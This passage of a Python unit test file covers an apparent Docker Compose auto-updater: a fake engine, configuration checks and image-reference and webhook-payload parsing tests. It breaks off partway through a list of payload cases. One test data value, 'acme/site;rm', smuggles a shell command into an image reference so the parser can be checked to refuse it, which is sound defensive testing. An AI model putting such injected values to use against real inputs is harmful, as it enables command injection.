"""Unit tests for gopdater: subprocess is mocked or a fake Docker runner is injected.

Run with `python3 -m unittest` (the README's test command also runs test_engine.py,
which uses the real Docker engine).
"""

import base64
import contextlib
import collections
import copy
import datetime
import email
import hashlib
import hmac
import http.client
import http.server
import io
import json
import logging
import os
import pathlib
import re
import resource
import shutil
import socket
import socketserver
import subprocess
import sys
import tempfile
import threading
import time
import unittest
import urllib.parse
from unittest import mock

import gopdater
from gopdater import CommandError, HTTPStatus, ImageKey

HERE = pathlib.Path(__file__).resolve().parent
PAYLOADS = HERE / "testdata" / "payloads"
SECRET = "s3cret-Token_for.tests~0123456789"
OLD_ID = "sha256:" + "1" * 64
NEW_ID = "sha256:" + "2" * 64
OLDER_ID = "sha256:" + "0" * 64  # what a service ran before OLD_ID: kept for a rollback since the update before
BROKEN_ID = "sha256:" + "3" * 64
SITE = gopdater.ServiceRef("compose", "demo", "site")


def payload(name):
    """A sample body from testdata/payloads, parsed."""
    return json.loads((PAYLOADS / name).read_text())


def make_config(argv=(), **env):
    """A Config from OWNER=acme, the test secret and any overrides."""
    environ = {"OWNER": "acme", "WEBHOOK_SECRET": SECRET, "PATH": os.environ.get("PATH", "")}
    environ.update({k: str(v) for k, v in env.items()})
    return gopdater.load_config(list(argv), environ)


def headers(**values):
    """Case-insensitive request headers, as http.server gives them."""
    message = http.client.HTTPMessage()
    for name, value in values.items():
        message[name.replace("_", "-")] = value
    return message


class Crash(BaseException):
    """gopdater and the commands it ran were killed (a reboot, an OOM kill, docker kill)."""


def tracking_of(target, service):
    """How a service of the target follows versions, as its running() says (None: it does not)."""
    return next(s.tracking for s in target.running() if s.ref.name == service)


def project_names(host):
    """The projects a ComposeHost updates, as its running() services say."""
    return sorted({s.ref.project for s in host.running()})


def findings(target):
    """What --check says of a target, one line each."""
    return [line for _, line in target.describe()]


class FakeClock:
    """Monotonic time that only moves when the code under test sleeps."""

    def __init__(self):
        self.now, self.sleeps = 1000.0, []

    def __call__(self):
        return self.now

    def sleep(self, seconds):
        self.sleeps.append(seconds)
        self.now += seconds


class Gate:
    """Holds gopdater right after a call it matches: started is set once it holds; release lets it go on, or,
    with crash set, kills it there."""

    def __init__(self, matches):
        self.matches, self.started, self.release, self.crash = matches, threading.Event(), threading.Event(), False

    def let_go(self, crash=False):
        self.crash = crash
        self.release.set()


def project_call(project, *prefix):
    """A Gate's test: a call of this project (by Compose's environment or a container name) starting with prefix."""
    def matches(argv, env):
        named = (env or {}).get("COMPOSE_PROJECT_NAME") == project or any(a.startswith(f"{project}-") for a in argv)
        return named and argv[:len(prefix)] == list(prefix)
    return matches


class FakeDocker:
    """An in-memory engine and Compose project answering the argv gopdater runs.

    Image behaviours say how a container of that image fares after start:
    healthy, crash, restart, unhealthy, starting (never healthy), nohc (no healthcheck,
    keeps running), late-crash (no healthcheck, restarts after 2 s), slow (start_period 90 s,
    healthy at 80 s).
    """

    def __init__(self, clock=None, services=None, compose=("docker", "compose"), projects=None, root="/srv"):
        self.clock = clock or FakeClock()
        self.compose, self.root = list(compose), root
        self.projects = projects or {"demo": services or {"site": "acme/site:latest"}}
        self.raw = {}  # (project, service): its image as the Compose file writes it, if a variable names its tag
        self.services = next(iter(self.projects.values()))  # the first project's, for one-project tests
        self.labels = {}  # (project, service): extra labels of its containers
        self.file_labels = {}  # (project, service): labels the Compose file gives it (compose config, v2)
        self.image_labels = {}  # image id: labels the image itself carries
        self.repo_digests = {}  # image id: its RepoDigests ("acme/site@sha256:..."), as pulls recorded them
        self.printed = ""  # what each release step's command prints
        self.orders = {}  # (project, service): deploy.update_config.order in the Compose file
        self.names, self.host_ports = {}, {}  # (project, service): a fixed container_name; a published host port
        self.network_modes = {}  # (project, service): the service whose network namespace it joins (service:X)
        self.restarts_with = {}  # (project, service): the services it restarts with (depends_on restart: true, v2)
        self.cannot_run = set()  # (service, image id): a container of that service on that image exits at once
        self.events = []  # (what, container, networks it was on then), for start and connect
        self.swarm_info = {"LocalNodeState": "inactive"}
        self.calls, self.fail, self.lock = [], {}, threading.Lock()
        self.call_kwargs = []  # the keyword arguments (env, cwd, ...) of each call, beside self.calls
        self.fail_if = []  # (argv prefix, predicate on the fake, exit code, stderr): fail while predicate holds
        self.canned = {}  # argv tuple: the output to give for exactly that call
        self.then = {}  # argv prefix: what to do to the fake right after the first such call
        self.active = self.most_active = 0  # commands running at once, now and at the most
        self.crash_after = None  # (argv prefix, n): gopdater is killed right after the nth such call
        self.gates = []  # Gate: the first call each matches holds until the test lets it go
        self.engine_down_until = None  # fake time until which every command finds no engine
        self.pull_gate, self.pull_started, self.config_read = None, threading.Event(), threading.Event()
        refs = {ref for services in self.projects.values() for ref in services.values()}
        self.images = {ref: OLD_ID for ref in refs}
        self.registry = {ref: NEW_ID for ref in refs}
        self.behaviour = {OLDER_ID: "healthy", OLD_ID: "healthy", NEW_ID: "healthy", BROKEN_ID: "crash"}
        self.containers = {}
        self.deleted = set()  # image ids removed from the engine by hand
        self.serial = 0
        for project, services in self.projects.items():
            for service in services:
                self.create(project, service)

    def track(self, project, service, raw, env_text, label="minor", versions=()):
        """Make a service name its tag by a variable (raw), kept in a real .env in the project's folder (root must
        be a real folder), labelled gopdater.track (None: not); versions are tags the registry has, each new."""
        folder = os.path.join(self.root, project)
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, ".env"), "w", newline="") as handle:
            handle.write(env_text)
        self.raw[(project, service)] = raw
        if label is not None:
            self.file_labels[(project, service)] = {"gopdater.track": label}
            if self.compose == ["docker-compose"]:  # Compose v1 shows labels on the containers only
                self.labels[(project, service)] = {"gopdater.track": label}
        for n, tag in enumerate(versions):
            self.registry[gopdater.with_tag(raw, tag)] = f"sha256:{n + 0x70:064x}"
            self.behaviour[f"sha256:{n + 0x70:064x}"] = "healthy"
        self.resolve(project, service)
        self.images[self.projects[project][service]] = OLD_ID
        self.registry.setdefault(self.projects[project][service], OLD_ID)
        for c in self.containers.values():
            if (c["project"], c["service"]) == (project, service):
                c["ref"] = self.projects[project][service]

    def env_text(self, project):
        with open(os.path.join(self.root, project, ".env"), newline="") as handle:
            return handle.read()

    def resolve(self, project, service):
        """The image Compose would run: the raw image's variable filled in from the .env (or its default)."""
        raw = self.raw.get((project, service))
        if raw is not None:
            match = re.fullmatch(r"(.+):\$\{(\w+)(?::-([^}]*))?\}", raw)
            if match is None:  # a literal tag
                self.projects[project][service] = raw
                return
            value = gopdater.env_value(self.env_text(project), match.group(2))
            self.projects[project][service] = f"{match.group(1)}:{value or match.group(3)}"

    def create(self, project, service, started=True):
        self.serial += 1
        self.resolve(project, service)
        ref = self.projects[project][service]
        cid = f"{self.serial:064x}"
        taken = {c["name"] for c in self.containers.values()}
        name = next(f"{project}-{service}-{n}" for n in range(1, 99) if f"{project}-{service}-{n}" not in taken)
        joins = self.network_modes.get((project, service))
        self.containers[cid] = {"id": cid, "name": self.names.get((project, service), name), "service": service,
                                "ref": ref, "image_id": self.images[ref], "started": self.clock(), "stopped": False,
                                "project": project, "created": not started,
                                "networks": {} if joins else {f"{project}_default": [service]},
                                "network_of": next((c["id"] for c in self.containers.values() if
                                                    (c["project"], c["service"]) == (project, joins)), None)}

    def inspect(self, c):
        behaviour = "crash" if (c["service"], c["image_id"]) in self.cannot_run else self.behaviour[c["image_id"]]
        age = self.clock() - c["started"]
        hc = behaviour in ("healthy", "unhealthy", "starting", "crash", "restart", "slow")
        status, health, restarts, started_at, code = "running", None, 0, f"t{c['started']}", 0
        if hc:
            health = "starting"
            if behaviour == "healthy" and age >= 1 or behaviour == "slow" and age >= 80:
                health = "healthy"
            if behaviour == "unhealthy" and age >= 1:
                health = "unhealthy"
        if behaviour == "crash":
            status, code = "exited", 1
        if behaviour == "restart" or (behaviour == "late-crash" and age >= 2):
            restarts, started_at = 1, f"t{c['started'] + 2}"
        if c["stopped"]:
            status = "exited"
        if c["created"]:
            status, health = "created", None
        check = {"Test": ["CMD", "true"], "StartPeriod": 90 * 10**9 if behaviour == "slow" else 0} if hc else None
        ports = self.host_ports.get((c["project"], c["service"]))
        return {"Id": c["id"], "Name": "/" + c["name"], "Image": c["image_id"], "RestartCount": restarts,
                "HostConfig": {"PortBindings": {"80/tcp": [{"HostIp": "", "HostPort": ports}]} if ports else {},
                               "NetworkMode": f"container:{c['network_of']}" if c.get("network_of") else "default"},
                "NetworkSettings": {"Networks": {n: {"Aliases": a} for n, a in c["networks"].items()}},
                "State": {"Status": status, "Restarting": False, "ExitCode": code, "StartedAt": started_at,
                          **({"Health": {"Status": health}} if hc else {})},
                "Config": {"Image": c["ref"], "Healthcheck": check, "Labels": {
                    **(self.image_labels.get(c["image_id"]) or {}),  # dockerd copies them, the creator's win
                    "com.docker.compose.project": c["project"], "com.docker.compose.service": c["service"],
                    "com.docker.compose.project.working_dir": f"{self.root}/{c['project']}",
                    "com.docker.compose.project.config_files": "compose.yaml",
                    "com.docker.compose.oneoff": "False", **self.service_labels(c["project"], c["service"])}}}

    def dependency(self, project, service):
        """What the Compose file says a service depends on, as `compose config --format json` shows it."""
        joins, restarts = self.network_modes.get((project, service)), self.restarts_with.get((project, service), ())
        return {**({"network_mode": f"service:{joins}"} if joins else {}),
                **({"depends_on": {name: {"condition": "service_started", "restart": True, "required": True}
                                   for name in restarts}} if restarts else {})}

    def service_labels(self, project, service):
        """The labels the Compose file gives a service: in `compose config` (v2) and on its containers."""
        return {**self.labels.get((project, service), {}), **self.file_labels.get((project, service), {})}

    def __call__(self, argv, timeout, env=None, cwd=None, quiet=False, both=False, mutates=False):
        assert isinstance(argv, list) and all(isinstance(a, str) for a in argv), argv
        with self.lock:
            self.calls.append(list(argv))
            self.call_kwargs.append({"env": env, "cwd": cwd})
            self.active += 1
            self.most_active = max(self.most_active, self.active)
        try:
            out = self.answer(argv, env)
        finally:
            with self.lock:
                self.active -= 1
        with self.lock:
            gate = next((g for g in self.gates if g.matches(argv, env)), None)
            if gate is not None:
                self.gates.remove(gate)
        if gate is not None:
            gate.started.set()
            assert gate.release.wait(10), "the test let the gate go"
            if gate.crash:
                raise Crash(f"killed after {argv}")
        return out

    def hold(self, matches):
        """A Gate on the first call that matches(argv, env)."""
        gate = Gate(matches)
        with self.lock:
            self.gates.append(gate)
        return gate

    def answer(self, argv, env):
        if self.engine_down_until is not None and self.clock() < self.engine_down_until:
            raise gopdater.command_failed(argv, 1, "Cannot connect to the Docker daemon at unix:///x.sock")
        for prefix, (code, tail) in self.fail.items():
            if argv[:len(prefix)] == list(prefix):
                raise gopdater.command_failed(argv, code, tail)
        for prefix, holds, code, tail in self.fail_if:
            if argv[:len(prefix)] == list(prefix) and holds(self):
                raise gopdater.command_failed(argv, code, tail)
        compose = self.compose
        if tuple(argv) in self.canned:
            out = self.canned[tuple(argv)]
        elif argv[:len(compose)] == compose:
            out = self.run_compose(argv[len(compose):], (env or {}).get("COMPOSE_PROJECT_NAME") or "demo")
        else:
            out = self.run_docker(argv[1:])
        for prefix in [p for p in self.then if argv[:len(p)] == list(p)]:
            self.then.pop(prefix)(self)
        if self.crash_after and argv[:len(self.crash_after[0])] == list(self.crash_after[0]):
            prefix, left = self.crash_after
            self.crash_after = (prefix, left - 1) if left > 1 else None
            if left == 1:
                raise Crash(f"killed after {argv}")
        return out

    def run_compose(self, args, project):
        services = self.projects.get(project, {})
        mine = [c for c in self.containers.values() if c["project"] == project]
        if args == ["version", "--short"]:
            return "1.29.2\n" if self.compose == ["docker-compose"] else "2.29.1\n"
        if args == ["config", "--services"]:
            self.config_read.set()
            return "".join(f"{s}\n" for s in services)
        if args == ["config", "--format", "json"]:
            self.config_read.set()
            return json.dumps({"name": project, "services": {s: {"image": ref, **(
                {"deploy": {"update_config": {"order": self.orders[(project, s)]}}}
                if (project, s) in self.orders else {}), **({"labels": self.service_labels(project, s)}
                if self.service_labels(project, s) else {}), **self.dependency(project, s)}
                for s, ref in services.items()}})
        if args[:2] == ["config", "--no-interpolate"]:
            raw = {s: self.raw.get((project, s), ref) for s, ref in services.items()}
            if args[2:] == ["--format", "json"]:
                return json.dumps({"name": project, "services": {s: {"image": r} for s, r in raw.items()}})
            assert args == ["config", "--no-interpolate"] and self.compose == ["docker-compose"], args
            return "services:\n" + "".join(f"  {s}:\n    image: {r}\n" for s, r in raw.items()) + "version: '3'\n"
        if args[:5] == ["run", "--rm", "--no-deps", "-T", "--name"]:
            return self.said(args)
        if args[:3] == ["ps", "-a", "-q"]:
            return "".join(f"{c['id']}\n" for c in mine if args[3:] in ([], [c["service"]]))
        if args[0] == "pull":
            self.pull_started.set()
            if self.pull_gate is not None:
                self.pull_gate.wait(10)
            ref = services[args[1]]
            self.images[ref] = self.registry[ref]
            return ""
        if args[:4] == ["up", "-d", "--no-deps", "--force-recreate"]:
            for c in [c for c in mine if c["service"] == args[4]]:
                del self.containers[c["id"]]
            self.create(project, args[4])
            return ""
        if args[:3] == ["up", "-d", "--no-deps"]:
            if not any(c["service"] == args[3] for c in mine):
                self.create(project, args[3])
            return ""
        if args[0] == "restart":
            for c in mine:
                if c["service"] == args[1]:
                    c["started"], c["stopped"] = self.clock(), False
            return ""
        if args[:4] == ["up", "--no-start", "--no-deps", "--no-recreate"] and args[4] == "--scale":
            service, count = args[5].split("=")
            for _ in range(int(count) - sum(c["service"] == service for c in mine)):
                self.create(project, service, started=False)
            return ""
        raise AssertionError(f"unexpected compose call {args}")

    def run_docker(self, args):
        by_name = {c["name"]: c for c in self.containers.values()}
        if args[0] == "version":
            return "20.10.24\n"
        if args == ["info", "--format", "{{json .Swarm}}"]:
            return json.dumps(self.swarm_info) + "\n"
        if args == ["info", "--format", "{{json .RegistryConfig}}"]:
            return json.dumps({"InsecureRegistryCIDRs": ["127.0.0.0/8"], "IndexConfigs": {}}) + "\n"
        if args[:4] == ["image", "inspect", "--format", "{{json .RepoDigests}}"]:
            return "".join(json.dumps(self.repo_digests.get(i, [])) + "\n" for i in args[4:])
        if args[:1] == ["service"] or args[:3] == ["inspect", "--type", "task"]:
            return self.swarm(args)
        if args == ["ps", "-a", "-q", "--filter", "label=com.docker.compose.project"]:
            return "".join(f"{cid}\n" for cid in self.containers)
        if args[:4] == ["ps", "-a", "-q", "--no-trunc"]:
            wanted = dict(f[len("label=com.docker.compose."):].split("=", 1) for f in args[5::2])
            assert args[4::2] == ["--filter"] * len(wanted) and set(wanted) <= {"project", "service"}, args
            return "".join(f"{c['id']}\n" for c in self.containers.values()
                           if all(c[key] == value for key, value in wanted.items()))
        if args[:3] == ["inspect", "--type", "container"]:
            missing = [i for i in args[3:] if i not in self.containers]
            if missing:  # as Docker: the others on stdout, lost to a failing command
                raise CommandError(["docker", *args], 1, f"Error: No such container: {missing[0]}")
            return json.dumps([self.inspect(self.containers[i]) for i in args[3:]])
        if args[:4] == ["image", "inspect", "--format", "{{json .Config.Labels}}"]:
            missing = [i for i in args[4:] if i in self.deleted]
            if missing:  # Docker 20.10's words; the others on stdout, lost to a failing command
                raise CommandError(["docker", *args], 1, f"Error response from daemon: no such image: {missing[0]}: "
                                                         f"No such image: {missing[0]}")
            return "".join(json.dumps(self.image_labels.get(i) or None) + "\n" for i in args[4:])
        if args[0] == "exec":
            return self.said(args)
        if args[:2] == ["image", "inspect"]:
            if args[-1] in self.images:
                return self.images[args[-1]] + "\n"
            if args[-1] in (set(self.images.values()) | set(self.registry.values()) | set(self.behaviour)) - self.deleted:
                return args[-1] + "\n"  # an image a pull untagged is still there, as Docker keeps it
            raise CommandError(["docker", *args], 1, f"Error: No such image: {args[-1]}")
        if args[0] == "pull":
            if args[1] not in self.registry:
                raise CommandError(["docker", *args], 1, f"Error response from daemon: manifest for {args[1]} not found")
            self.images[args[1]] = self.registry[args[1]]
            return ""
        if args[0] == "stop":
            by_name[args[-1]]["stopped"] = True
            return ""
        if args[0] == "rm":
            if args[-1] not in by_name:
                raise CommandError(["docker", *args], 1, f"Error: No such container: {args[-1]}")
            del self.containers[by_name[args[-1]]["id"]]
            return ""
        if args[0] == "start":
            c = by_name[args[1]]
            c["created"], c["started"] = False, self.clock()
            self.events.append(("start", c["name"], sorted(c["networks"])))
            return ""
        if args[:2] == ["network", "disconnect"]:
            del by_name[args[3]]["networks"][args[2]]
            return ""
        if args[:2] == ["network", "connect"]:
            c = by_name[args[-1]]
            c["networks"][args[-2]] = [a for i, a in enumerate(args) if i and args[i - 1] == "--alias"]
            self.events.append(("connect", c["name"], sorted(c["networks"])))
            return ""
        if args[0] == "rmi":
            if any(c["image_id"] == args[1] for c in self.containers.values()):
                raise CommandError(["docker", *args], 1, "image is being used by running container")
            self.deleted.add(args[1])
            return ""
        if args[0] == "tag":
            self.images[args[2]] = args[1]
            return ""
        if args[0] == "logs":
            return "panic: boom\n"
        raise AssertionError(f"unexpected docker call {args}")

    def said(self, args):
        """What a release step's command prints."""
        return self.printed

    def swarm(self, args):
        raise AssertionError(f"unexpected swarm call {args}")

    def mutating_calls(self):
        """The calls that change something, in order."""
        changes = ("pull", "stop", "rm", "up", "rmi", "tag", "start", "network", "restart")
        return [c for c in self.calls if any(word in c[:3] for word in changes)]


def deployment_calls(calls):
    """The calls of a deployment with consecutive identical polls collapsed and the closing refresh dropped."""
    collapsed = []
    for call in calls:
        if not collapsed or call != collapsed[-1]:
            collapsed.append(call)
    while collapsed and (collapsed[-1][1:2] == ["inspect"] or "config" in collapsed[-1]
                         or collapsed[-1][2:4] == ["ps", "-a"] or collapsed[-1][:5] == image_labels_call()):
        collapsed.pop()
    return collapsed


def image_labels_call(*image_ids):
    """The argv that reads the labels images carry (beside every listing of containers)."""
    return ["docker", "image", "inspect", "--format", "{{json .Config.Labels}}", *image_ids]


def state_folder(test):
    """A STATE_DIR of the test's own, removed after it."""
    folder = tempfile.mkdtemp(prefix="gopdater-state-")
    test.addCleanup(shutil.rmtree, folder, True)
    return folder


def check(test, fake, **env):
    """Run --check against a fake engine with these settings; (exit code, what it printed)."""
    env.setdefault("STATE_DIR", state_folder(test))
    out = io.StringIO()
    code = gopdater.run_check(make_config(**env), fake, out=out)
    return code, out.getvalue()


def cut(test, rig, prefix, nth=1):
    """Run the next deployment (queue it first) in this thread, killed right after the nth call starting with
    prefix, as a crash would cut it off."""
    rig.fake.crash_after = (prefix, nth)
    with test.assertRaises(Crash), test.assertLogs("gopdater", "INFO"):
        rig.queue.run_next()
    test.assertIsNone(rig.fake.crash_after, "the cut happened")


def restart(test, rig):
    """Start again with the same STATE_DIR: restore, run the worker until idle; return the queue."""
    rig.fake.calls.clear()
    queue = rig.new_queue(gopdater.Journal(rig.state_dir))
    with test.assertLogs("gopdater", "INFO"):
        test.assertEqual(queue.restore(), 1)
        thread = threading.Thread(target=queue.run_forever, daemon=True)
        thread.start()
        test.assertTrue(queue.wait_idle(10))
        queue.stop(5)
        thread.join(5)
    return queue


class Rig:
    """A fake engine, a project discovered through it, a work queue and an App; the worker starts on demand."""

    def __init__(self, test, fake=None, **env):
        self.test = test
        self.clock = FakeClock()
        self.fake = fake or FakeDocker(self.clock)
        self.fake.clock = self.clock
        self.config = make_config(**env)
        self.project = gopdater.discover(self.config, self.fake, read_file=lambda path: "",
                                         cwd=os.path.join(self.fake.root, "demo"))
        self.notices = []
        self.metrics = gopdater.Metrics(clock=self.clock)
        self.state_dir = env.get("STATE_DIR") or state_folder(test)
        self.journal = gopdater.Journal(self.state_dir)
        self.wall = datetime.datetime(2026, 12, 7, 12, 0)  # a Monday noon, local time: windows and approval
        self.queue = self.new_queue()
        self.app = gopdater.App(self.config, self.queue, self.metrics)
        self.app.desk = gopdater.Desk(self.queue)
        self.app.clock = lambda: self.clock() + 1_700_000_000.0  # wall seconds, for the forms' tokens
        self.worker = None
        self.fake.calls.clear()
        self.fake.call_kwargs.clear()

    def new_queue(self, journal=None, notify=None):
        """A work queue on this rig's fake engine and STATE_DIR, as a fresh start of gopdater makes it."""
        send = notify or (lambda url, body: self.notices.append((url, body)) or True)
        return gopdater.WorkQueue(self.config, self.project, gopdater.QueueSeams(
            self.clock, self.clock.sleep, gopdater.notifying(self.config, send), self.metrics, journal or self.journal,
            lambda: self.wall))

    def post(self, path, body, **hdrs):
        raw = body if isinstance(body, bytes) else json.dumps(body).encode()
        hdrs.setdefault("Content_Length", str(len(raw)))
        response = self.app.handle("POST", path, headers(**hdrs), raw)
        return response.status, response.payload, response.headers

    def start_worker(self):
        """Run the work queue's PARALLEL worker threads until the test ends."""
        if self.worker is None:
            self.worker = [threading.Thread(target=self.queue.run_forever, daemon=True)
                           for _ in range(self.config.parallel)]
            for worker in self.worker:
                worker.start()
                self.test.addCleanup(worker.join, 10)
            self.test.addCleanup(self.queue.stop, 10)

    def kept_before(self, image=OLDER_ID, project="demo", service="site"):
        """Journal the image a service ran before OLD_ID, as an update before this one kept it for a rollback."""
        self.journal.keep(f"compose:{project}/{service}", gopdater.Previous(image))

    def deploy(self, event_image="docker.io/acme/site:latest"):
        """Submit one push as a hook would, let the worker run it, and return the deployment once it ended."""
        (deployment, _), = self.queue.submit(gopdater.PushEvent("dockerhub", gopdater.parse_reference(event_image)))
        self.start_worker()
        self.test.assertTrue(self.queue.wait_idle(10), "the deployment ended")
        return deployment


# ---------------------------------------------------------------------------------------------
# Configuration
# ---------------------------------------------------------------------------------------------


class ConfigTest(unittest.TestCase):
    def test_defaults_match_the_documented_ones(self):
        """With only the required settings, gopdater listens on 0.0.0.0:8080 with the documented timeouts."""
        config = make_config()
        self.assertEqual((config.host, config.port), ("0.0.0.0", 8080))
        self.assertEqual(config.owners, (("docker.io", "acme"),))
        self.assertEqual((config.health_timeout, config.settle_time, config.dry_run), (60, 10, False))

    def test_bad_settings_are_errors_naming_the_variable(self):
        """Each missing or bad setting raises one message that names the variable and how to fix it."""
        cases = [
            ({"OWNER": ""}, "OWNER"),
            ({"OWNER": "Bad Owner"}, "OWNER"),
            ({"WEBHOOK_SECRET": ""}, "WEBHOOK_SECRET"),
            ({"WEBHOOK_SECRET": "short"}, "WEBHOOK_SECRET"),
            ({"WEBHOOK_SECRET": "has spaces in it, sixteen+"}, "WEBHOOK_SECRET"),
            ({"PORT": "http"}, "PORT"),
            ({"PORT": "70000"}, "PORT"),
            ({"HEALTH_TIMEOUT": "-1"}, "HEALTH_TIMEOUT"),
            ({"PULL_TIMEOUT": "inf"}, "PULL_TIMEOUT"),
            ({"STOP_TIMEOUT": "1.5"}, "STOP_TIMEOUT"),
            ({"SETTLE_TIME": "soon"}, "SETTLE_TIME"),
            ({"MAX_CONNECTIONS": "0"}, "MAX_CONNECTIONS"),
            ({"DRY_RUN": "maybe"}, "DRY_RUN"),
            ({"LOG_LEVEL": "LOUD"}, "LOG_LEVEL"),
            ({"NOTIFY_URL": "ftp://example.org/x"}, "NOTIFY_URL"),
            ({"COMPOSE_PROJECT_NAME": "My Site"}, "COMPOSE_PROJECT_NAME"),
            ({"SERVICES": "acme/site"}, "SERVICES"),
            ({"SERVICES": "acme/site=bad name"}, "SERVICES"),
            ({"SERVICES": "Acme/Site=web"}, "SERVICES"),
            ({"COMPOSE_COMMAND": "docker 'compose"}, "COMPOSE_COMMAND"),
        ]
        for env, variable in cases:
            with self.subTest(env=env):
                with self.assertRaises(gopdater.ConfigError) as caught:
                    make_config(**env)
                message = str(caught.exception)
                self.assertTrue(message.startswith(variable), message)
                self.assertNotIn("\n", message)
                self.assertRegex(message, r"(e\.g\.|\buse\b|\bunset it\b|\bgenerate one\b)")

    def test_flag_wins_over_environment(self):
        """--port beats PORT, and every setting has a flag of the same name."""
        self.assertEqual(make_config(["--port", "9000"], PORT="8000").port, 9000)
        self.assertEqual(make_config(PORT="8000").port, 8000)
        self.assertTrue(make_config(["--dry-run"]).dry_run)

    def test_owner_entries_may_name_a_registry(self):
        """A bare OWNER entry is a Docker Hub namespace; REGISTRY/NAME names another registry."""
        config = make_config(OWNER="acme, ghcr.io/Acme-Org ,index.docker.io/beta,127.0.0.1:5000/team")
        self.assertEqual(config.owners, (("docker.io", "acme"), ("ghcr.io", "acme-org"), ("docker.io", "beta"),
                                         ("127.0.0.1:5000", "team")))

    def test_services_pairs_default_to_latest(self):
        """SERVICES pairs are normalised like image references; a missing tag means latest."""
        config = make_config(SERVICES="acme/site=web, docker.io/acme/api:stable=api,ghcr.io/acme/x:v1=x")
        self.assertEqual(config.services, (
            (ImageKey("docker.io", "acme/site", "latest"), "web"),
            (ImageKey("docker.io", "acme/api", "stable"), "api"),
            (ImageKey("ghcr.io", "acme/x", "v1"), "x")))

    def test_main_exits_2_with_one_line_for_a_bad_setting(self):
        """A missing required setting exits 2 with one line on stderr, before touching Docker."""
        stderr = io.StringIO()
        with mock.patch.dict(os.environ, {"WEBHOOK_SECRET": SECRET}, clear=True), \
                mock.patch("gopdater.subprocess.Popen") as run, contextlib.redirect_stderr(stderr):
            code = gopdater.main([])
        self.assertEqual(code, 2)
        self.assertEqual(len(stderr.getvalue().strip().splitlines()), 1)
        self.assertIn("OWNER", stderr.getvalue())
        run.assert_not_called()

    def test_help_lists_the_flag_of_every_setting_in_the_readme(self):
        """--help shows a flag for each variable of the README's settings table, and no other flag."""
        out = io.StringIO()
        with contextlib.redirect_stdout(out), self.assertRaises(SystemExit) as caught:
            gopdater.load_config(["--help"], {})
        self.assertEqual(caught.exception.code, 0)
        readme = (HERE / "README.md").read_text()
        documented = re.findall(r"^\| `([A-Z_]+)` \|", readme, re.MULTILINE)
        flags = set(re.findall(r"^  (--[a-z-]+)", out.getvalue(), re.MULTILINE))
        self.assertEqual(flags, {"--" + name.lower().replace("_", "-") for name in documented} |
                         {"--check", "--version"})

    def test_unknown_or_incomplete_flags_are_errors(self):
        """A flag that does not exist, one missing its value, or a value on a switch, is a ConfigError."""
        for argv, start in [(["--prot", "80"], "--prot"), (["--port"], "--port"), (["--dry-run=yes"], "--dry-run"),
                            (["--check=1"], "--check")]:
            with self.subTest(argv=argv):
                with self.assertRaises(gopdater.ConfigError) as caught:
                    make_config(argv)
                self.assertTrue(str(caught.exception).startswith(start), caught.exception)
        self.assertEqual(make_config(["--port=9001", "--check"]).port, 9001)

    def test_readme_documents_exactly_the_settings(self):
        """The README's settings table names every setting, and only real ones."""
        readme = (HERE / "README.md").read_text()
        table = re.findall(r"^\| `([A-Z_]+)` \|", readme, re.MULTILINE)
        self.assertEqual(sorted(table), sorted(s.name for s in gopdater.SETTINGS))
        for setting in gopdater.SETTINGS:
            if setting.default is not None:
                with self.subTest(setting=setting.name):
                    self.assertRegex(readme, rf"\| `{setting.name}` \| `{re.escape(setting.default)}` \|")


# ---------------------------------------------------------------------------------------------
# Payload parsing
# ---------------------------------------------------------------------------------------------


class ReferenceTest(unittest.TestCase):
    def test_references_normalise_like_docker(self):
        """docker.io, index.docker.io, registry-1.docker.io and library/ normalise away; no tag means latest."""
        cases = {
            "nginx": ImageKey("docker.io", "library/nginx", "latest"),
            "library/nginx:1.27": ImageKey("docker.io", "library/nginx", "1.27"),
            "docker.io/library/nginx": ImageKey("docker.io", "library/nginx", "latest"),
            "index.docker.io/acme/site:v2": ImageKey("docker.io", "acme/site", "v2"),
            "registry-1.docker.io/acme/site": ImageKey("docker.io", "acme/site", "latest"),
            "ghcr.io/acme/site": ImageKey("ghcr.io", "acme/site", "latest"),
            "127.0.0.1:5000/acme/site:latest": ImageKey("127.0.0.1:5000", "acme/site", "latest"),
            "localhost/acme/site:v1": ImageKey("localhost", "acme/site", "v1"),
            "Registry.Example.org/a/b__c/d-e:v1.2_3": ImageKey("registry.example.org", "a/b__c/d-e", "v1.2_3"),
        }
        for reference, expected in cases.items():
            with self.subTest(reference=reference):
                self.assertEqual(gopdater.parse_reference(reference), expected)

    def test_invalid_or_pinned_references_are_refused(self):
        """Names outside Docker's grammar, and references pinned by digest, never match a push."""
        for reference in ["acme/Site", "acme//site", "-acme/site", "acme/site:", "acme/site:" + "t" * 129,
                          "acme/site:v+1", "acme/site@sha256:" + "a" * 64, "acme/site;rm", "a" * 256,
                          "acme/site:tag\n", "acme/ site", "acme/site_/x"]:
            with self.subTest(reference=reference):
                self.assertIsNone(gopdater.parse_reference(reference))


class PayloadTest(unittest.TestCase):
    def parse(self, parser, data, **hdrs):
        return parser(data, headers(**hdrs))

    def test_every_sender_sample_parses_into_the_same_event_model(self):
        """Each registry's sample body becomes registry, repository, tag, digest and sender."""
        digest = "sha256:4f0a1c8e6b8e1f3a2d9c5b7e0a6f4d2c1b3a5e7f9d0c2b4a6e8f0a1c3e5b7d9f"
        cases = [
            (gopdater.parse_dockerhub, "dockerhub-push.json", {},
             [gopdater.PushEvent("dockerhub", ImageKey("docker.io", "acme/site", "latest"))]),
            (gopdater.parse_dockerhub, "dockerhub-push-legacy.json", {},
             [gopdater.PushEvent("dockerhub", ImageKey("docker.io", "acme/site", "latest"))]),
            (gopdater.parse_ghcr, "ghcr-package-published.json", {"X_GitHub_Event": "package"},
             [gopdater.PushEvent("ghcr", ImageKey("ghcr.io", "acme/site", "latest"), digest)]),
            (gopdater.parse_quay, "quay-repo-push.json", {},
             [gopdater.PushEvent("quay", ImageKey("quay.io", "acme/site", "latest"))]),
            (gopdater.parse_harbor, "harbor-push-artifact.json", {},
             [gopdater.PushEvent("harbor", ImageKey("harbor.example.org", "acme/site", "latest"), digest)]),
            (gopdater.parse_distribution, "distribution-events.json", {},
             [gopdater.PushEvent("registry", ImageKey("registry.example.org", "acme/site", "latest"), digest)]),
            (gopdater.parse_gitea, "gitea-package-created.json", {"X_Gitea_Event": "package"},
             [gopdater.PushEvent("gitea", ImageKey("git.example.org", "acme/site", "latest"))]),
            (gopdater.parse_gitea, "gitea-package-created.json", {"X_Forgejo_Event": "package"},
             [gopdater.PushEvent("gitea", ImageKey("git.example.org", "acme/site", "latest"))]),
            (gopdater.parse_acr, "acr-push.json", {},
